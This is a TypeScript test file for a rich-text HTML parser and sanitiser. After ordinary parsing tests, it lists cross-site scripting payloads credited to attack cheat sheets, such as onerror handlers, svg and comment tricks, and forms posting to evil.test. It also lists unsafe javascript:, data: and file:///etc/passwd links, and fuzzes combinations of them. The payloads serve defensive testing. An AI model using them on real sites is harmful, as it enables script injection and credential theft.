import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseRichText } from './parse-rich-text.ts';
import { RICH_TAGS, type RichElement, type RichNode } from './rich-node.ts';

const listElements = (nodes: readonly RichNode[]): RichElement[] =>
  nodes.flatMap((node) => (typeof node === 'string' ? [] : [node, ...listElements(node.children)]));
const collectText = (nodes: readonly RichNode[]): string =>
  nodes.map((node) => (typeof node === 'string' ? node : collectText(node.children))).join('');
const listTags = (text: string): string[] => listElements(parseRichText(text)).map(({ tag }) => tag);
const listHrefs = (text: string) =>
  listElements(parseRichText(text)).flatMap(({ attributes: { href } }) => href ?? []);

describe('a text from the business', () => {
  it('keeps the paragraphs, lines and markup-like characters of a plain text', () => {
    expect(listTags('One\ntwo\n\nThree')).toEqual(['p', 'br', 'p']);
    expect(collectText(parseRichText('Under 5 KD < 10 KD & more > none'))).toBe(
      'Under 5 KD < 10 KD & more > none',
    );
    expect(parseRichText(' \n\n ')).toEqual([]);
  });

  it('keeps headings, lists, tables and links of an HTML text', () => {
    const text =
      '<h1>Terms</h1><p>Read <a href="HTTPS://example.com/terms">all of it</a>.</p><ol start="3"><li>One<li>Two</ol>' +
      '<table><tr><th colspan="2">Fee</th></tr><tr><td>A</td><td>1</td></tr></table>';
    expect(listTags(text)).toEqual(['h1', 'p', 'a', 'ol', 'li', 'li', 'table', 'tr', 'th', 'tr', 'td', 'td']);
    expect(listHrefs(text)).toEqual(['https://example.com/terms']);
    const findAttributes = (name: string) =>
      listElements(parseRichText(text)).find(({ tag }) => tag === name)?.attributes;
    expect([findAttributes('ol'), findAttributes('th')]).toEqual([{ start: 3 }, { colSpan: 2 }]);
  });

  it('wraps loose text of an HTML text in paragraphs and decodes entities', () => {
    expect(parseRichText('Caf&eacute; <b>bar</b><ul><li>Tea</li></ul>end')).toEqual([
      {
        tag: 'p',
        attributes: {},
        children: ['Café ', { tag: 'b', attributes: {}, children: ['bar'] }],
      },
      {
        tag: 'ul',
        attributes: {},
        children: [{ tag: 'li', attributes: {}, children: ['Tea'] }],
      },
      { tag: 'p', attributes: {}, children: ['end'] },
    ]);
  });

  it('parses broken and deeply nested HTML', () => {
    expect(collectText(parseRichText('<p>a<b>b</p>c</i></b><table><p>d'))).toBe('abcd');
    expect(collectText(parseRichText(`${'<div>'.repeat(4000)}deep${'</b></p>'.repeat(1000)}`))).toBe('deep');
  });
});

/** Taken from attack cheat sheets. Each entry has the text that remains readable. */
const ATTACKS: readonly (readonly [string, string])[] = [
  ['<script>alert(1)</script>Hi', 'Hi'],
  ['<scr<script>ipt>alert(1)</script>', 'ipt>alert(1)'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<p onclick="alert(1)" style="position:fixed" class="c" id="cart">Hi</p>', 'Hi'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ''],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>', ''],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">', ''],
  ['<iframe src="https://evil.test"></iframe><object data="x"></object><embed src="x">Hi', 'Hi'],
  ['<form action="https://evil.test"><input name=card><button>Pay</button></form>', 'Pay'],
  ['<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=//evil.test">Hi', 'Hi'],
  ['<style>*{display:none}</style><link rel=stylesheet href=//evil.test>Hi', 'Hi'],
  ['<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x>">Hi', ''],
  ['<!--<img src="--><img src=x onerror=alert(1)//">Hi', 'Hi'],
  ['<x onmouseover=alert(1)>Hi</x><marquee onstart=alert(1)>there</marquee>', 'Hithere'],
  ['<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)></audio>Hi', 'Hi'],
  ['<a href="https://ok.test" target=_top ping="https://evil.test" download>Hi</a>', 'Hi'],
];
const BAD_LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'java&#9;script:alert(1)',
  '&#106;avascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
  '//evil.test',
  '/demo/cart',
  '#cart',
  'relative',
];
/** Whether an element has only a tag and attributes that a sanitised text may contain. */
const isHarmless = ({ tag, attributes }: RichElement): boolean =>
  RICH_TAGS.includes(tag) &&
  Object.entries(attributes).every(([name, value]) =>
    name === 'href'
      ? /^(https?:\/\/|mailto:|tel:)/.test(String(value))
      : /^(dir|lang|start|colSpan|rowSpan)$/.test(name),
  );

describe('an attack in a text from the business', () => {
  it.each(ATTACKS)('keeps only the text of the HTML attack %s', (attack, expectedText) => {
    const nodes = parseRichText(attack);
    expect(listElements(nodes).filter((element) => !isHarmless(element))).toEqual([]);
    expect(collectText(nodes).trim()).toBe(expectedText);
  });

  it.each(BAD_LINKS)('creates no link for the unsafe URL %j', (address) => {
    expect(listHrefs(`<a href="${address}">here</a>`)).toEqual([]);
    expect(collectText(parseRichText(`<a href="${address}">here</a>`))).toBe('here');
  });

  it('returns only safe elements for any combination of attack fragments', () => {
    const anyFragment = fc.oneof(
      fc.constantFrom(
        ...ATTACKS.map(([attack]) => attack),
        ...BAD_LINKS.map((address) => `<a href='${address}'>`),
        '<',
        '>',
        '</',
        '"',
        "'",
        '<p',
        '=',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '&#x',
        '\u0000',
        '<table>',
        '</table>',
        '<svg>',
        '</svg>',
        '<style>',
        '</style>',
        '<p dir="rtl">',
        '</p>',
        '<constructor>',
        '<__proto__ __proto__="x">',
        '<p toString="x" constructor="y">',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(anyFragment, { maxLength: 12 }), (fragments) => {
        const parsedElements = listElements(parseRichText(fragments.join('')));
        expect(parsedElements.filter((element) => !isHarmless(element))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
